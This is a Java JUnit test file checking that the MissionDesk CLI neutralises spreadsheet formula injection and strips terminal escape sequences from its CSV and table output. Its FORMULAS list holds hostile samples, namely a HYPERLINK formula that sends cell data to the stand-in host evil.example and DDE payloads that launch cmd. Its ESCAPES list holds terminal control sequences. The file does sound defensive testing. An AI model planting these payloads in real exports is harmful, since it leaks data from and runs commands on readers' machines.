package be.inasti.missiondesk.cli;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.regex.Pattern;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;

/**
 * Issue 21, item 3: what MissionDesk writes cannot attack its reader. Cells that a spreadsheet would run as a formula
 * or a DDE command come back from the CSV written as text, whole (a flow's values as the flow reads them: stripped of
 * spaces); names and headers carrying terminal escape sequences are echoed without them.
 */
class HostileCsvTest extends CliTestBase {
    /** Cells a spreadsheet runs, as security advisories list them: a leading =, +, -, @, tab or CR, or after spaces. */
    static final List<String> FORMULAS = List.of("=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
            "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=2+2",
            "  =3+3", " \t@SUM(A1:A9)");
    /** Colour, clear screen, set the window's title and the 8-bit CSI: what a terminal obeys when it reads them. */
    static final List<String> ESCAPES = List.of("\u001b[31m", "\u001b[2J", "\u001b]0;pwned\u0007", "\u009b31m");
    private static final Pattern FORMULA_START = Pattern.compile("^([=+\\-@\\t\\r]|[ \\t]+[=+\\-@]).*",
            Pattern.DOTALL);
    private static final Pattern NUMBER = Pattern.compile("-?\\d+(?:[.,]\\d+)?");

    /** RFC 4180 CSV read as a spreadsheet reads it: quoted fields may hold separators, quotes and line breaks. */
    static List<List<String>> cells(String text, char separator) {
        List<List<String>> rows = new ArrayList<>();
        List<String> row = new ArrayList<>();
        StringBuilder cell = new StringBuilder();
        boolean quoted = false;
        for (int i = 0; i < text.length(); i++) {
            char c = text.charAt(i);
            if (quoted) {
                if (c == '"' && i + 1 < text.length() && text.charAt(i + 1) == '"') {
                    cell.append('"');
                    i++;
                } else if (c == '"') {
                    quoted = false;
                } else {
                    cell.append(c);
                }
            } else if (c == '"') {
                quoted = true;
            } else if (c == separator) {
                row.add(cell.toString());
                cell.setLength(0);
            } else if (c == '\n' || c == '\r') {
                if (c == '\r' && i + 1 < text.length() && text.charAt(i + 1) == '\n') {
                    i++;
                }
                row.add(cell.toString());
                rows.add(row);
                row = new ArrayList<>();
                cell.setLength(0);
            } else {
                cell.append(c);
            }
        }
        return rows;
    }

    static boolean runsInASpreadsheet(String cell) {
        return FORMULA_START.matcher(cell).matches() && !NUMBER.matcher(cell).matches();
    }

    /** A CSV field as a sender writes it: quoted, its quotes doubled. */
    static String field(String value) {
        return "\"" + value.replace("\"", "\"\"") + "\"";
    }

    @Test
    void theErrorReportOfAFlowHoldsNoLiveFormulaAndLosesNoValue() throws IOException {
        StringBuilder births = new StringBuilder("niss_mere;nom_mere;date_naissance;reference_enfant\n");
        for (String formula : FORMULAS) {
            births.append(field(formula)).append(";Marie Dupont;").append(field(formula)).append(";RN-1\n");
        }
        Path file = Files.writeString(folder.resolve("births.csv"), births);
        Path errors = folder.resolve("errors.csv");

        Run run = run("--db", db(), "flow", "births", file.toString(), "--office", "NAMUR", "--errors",
                errors.toString());

        assertThat(run.exit()).as(run.err()).isZero();
        List<List<String>> rows = cells(Files.readString(errors, StandardCharsets.UTF_8).substring(1), ';');
        assertThat(rows).hasSize(1 + 2 * FORMULAS.size());
        assertThat(rows.stream().flatMap(List::stream).filter(HostileCsvTest::runsInASpreadsheet)).isEmpty();
        assertThat(rows.stream().map(r -> r.get(2))).containsAll(FORMULAS.stream().map(f -> "'" + f.strip()).toList());
    }

    @Test
    void theQueueAsCsvHoldsNoLiveFormulaAndLosesNoName() {
        for (String formula : FORMULAS) {
            Run added = run("--db", db(), "mission", "add", "--type", "TITRES_SERVICES", "--office", "NAMUR",
                    "--assignee", "vrenard", "--received", "2026-11-10", "--name", formula);
            assertThat(added.exit()).as(added.err()).isZero();
        }

        Run queue = run("--db", db(), "queue", "--format", "csv");

        assertThat(queue.exit()).as(queue.err()).isZero();
        List<List<String>> rows = cells(queue.out(), ',');
        assertThat(rows.stream().flatMap(List::stream).filter(HostileCsvTest::runsInASpreadsheet)).isEmpty();
        assertThat(rows.stream().skip(1).map(r -> r.get(7)).distinct()).containsExactlyInAnyOrderElementsOf(
                FORMULAS.stream().map(f -> "'" + f).toList());
        assertThat(rows.stream().skip(1).map(r -> r.get(12))).allMatch(days -> NUMBER.matcher(days).matches());
    }

    @Test
    void theQueueShowsNamesWithoutTheirTerminalEscapes() {
        for (String escape : ESCAPES) {
            run("--db", db(), "mission", "add", "--type", "TITRES_SERVICES", "--office", "NAMUR", "--assignee",
                    "vrenard", "--received", "2026-11-10", "--name", "Marie" + escape + "Dupont");
        }

        for (String format : List.of("table", "csv")) {
            Run queue = run("--db", db(), "queue", "--format", format);

            assertThat(queue.exit()).as(queue.err()).isZero();
            assertThat(queue.out()).contains("Marie").doesNotContain("\u001b", "\u009b", "\u0007");
        }
    }

    @Test
    void theFlowCommandsEchoNamesValuesAndHeadersWithoutTheirTerminalEscapes() throws IOException {
        String evil = ESCAPES.get(0) + "Marie" + ESCAPES.get(1) + ESCAPES.get(3);  // no ';': it would split the line
        Path births = Files.writeString(folder.resolve("births.csv"), "niss_mere;nom_mere;date_naissance;"
                + "reference_enfant\n90.03.14-126.07;" + evil + ";12/11/2026;RN-1\n" + evil
                + ";Anne;12/11/2026;RN-2\n");
        Path header = Files.writeString(folder.resolve("header.csv"), "niss_mere;nom_mere" + evil + ";date_naissance"
                + ESCAPES.get(0) + "\n90.03.14-126.07;Marie;12/11/2026\n");

        Run lines = run("--db", db(), "flow", "births", births.toString(), "--office", "NAMUR");
        Run missing = run("--db", db(), "flow", "births", header.toString(), "--office", "NAMUR");

        assertThat(lines.exit()).as(lines.err()).isZero();
        assertThat(lines.out()).contains("line 2, nom_mere '", "line 3, niss_mere '", "Marie");
        assertThat(missing.refusedInOneLine()).as(missing.err()).isTrue();
        assertThat(Stream.of(lines.out(), lines.err(), missing.out(), missing.err()))
                .allSatisfy(said -> assertThat(said).doesNotContain("\u001b", "\u009b", "\u0007"));
    }
}
